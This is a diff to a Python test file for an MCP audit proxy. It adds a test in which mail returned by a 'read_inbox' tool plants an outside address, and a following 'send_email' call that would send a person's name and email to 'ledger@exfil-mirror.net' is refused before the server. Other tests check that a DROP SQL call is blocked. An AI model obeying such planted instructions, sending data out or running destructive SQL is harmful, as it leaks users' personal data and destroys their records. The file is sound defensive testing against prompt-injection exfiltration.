@@ -100,6 +100,7 @@ async def test_stdio_forwards_everything_audits_calls_and_refuses_before_the_ser
             tools = await session.list_tools()
             assert {t.name for t in tools.tools} == {
                 "echo", "run_sql", "broken", "slow_count", "ask_model", "env_has", "nap",
+                "read_inbox", "send_email",
             }  # fmt: skip
             assert text(await session.call_tool("echo", {"text": "hi"})) == "echo: hi"
 
@@ -151,11 +152,31 @@ async def test_stdio_forwards_everything_audits_calls_and_refuses_before_the_ser
     assert tool_spans["broken"].attributes["error.type"] == "tool_error"
 
 
+async def test_a_recipient_an_mcp_tool_planted_is_refused_before_the_server(
+    tmp_path: Path,
+) -> None:
+    """MCP tools are untrusted unless their server is listed trusted: the mail `read_inbox`
+    returned plants an address, and the next call sending data to it never reaches the server."""
+    db = tmp_path / "trail.db"
+    async with through_proxy(tmp_path, "--db", str(db)) as session:
+        await session.call_tool("read_inbox", {"folder": "inbox"})
+        refused = await session.call_tool(
+            "send_email", {"to": "ledger@exfil-mirror.net", "body": "Jane Roe, jane@example.com"}
+        )
+        assert refused.isError is True
+        assert "`read_inbox`" in text(refused) and "not from the user" in text(refused)
+        sent = await session.call_tool("send_email", {"to": "me@example.com", "body": "notes"})
+        assert text(sent) == "sent to me@example.com"
+    calls = [m["params"] for m in received(tmp_path) if m.get("method") == "tools/call"]
+    assert [c["name"] for c in calls] == ["read_inbox", "send_email"]
+    assert "exfil-mirror" not in json.dumps(calls[1])
+
+
 async def test_fail_closed_when_the_audit_server_is_down(tmp_path: Path) -> None:
     env = proxy_env(tmp_path, AGENTAUDIT_API_KEY="aa_live_x")
     url = f"http://127.0.0.1:{free_port()}"
     async with through_proxy(tmp_path, "--url", url, env=env) as session:
-        assert len((await session.list_tools()).tools) == 7  # forwarding needs no decision
+        assert len((await session.list_tools()).tools) == 9  # forwarding needs no decision
         refused = await session.call_tool("echo", {"text": "hi"})
         assert refused.isError is True and "audit unavailable" in text(refused)
     assert not [m for m in received(tmp_path) if m.get("method") == "tools/call"]
@@ -227,7 +248,7 @@ async def test_streamable_http_as_the_client_side_and_as_the_upstream(
         ClientSession(read, write, sampling_callback=sampling) as session,
     ):
         await session.initialize()
-        assert len((await session.list_tools()).tools) == 7
+        assert len((await session.list_tools()).tools) == 9
         assert text(await session.call_tool("echo", {"text": "over http"})) == "echo: over http"
         refused = await session.call_tool("run_sql", {"sql": DROP})
         assert refused.isError is True and "Blocked by AgentAudit policy" in text(refused)
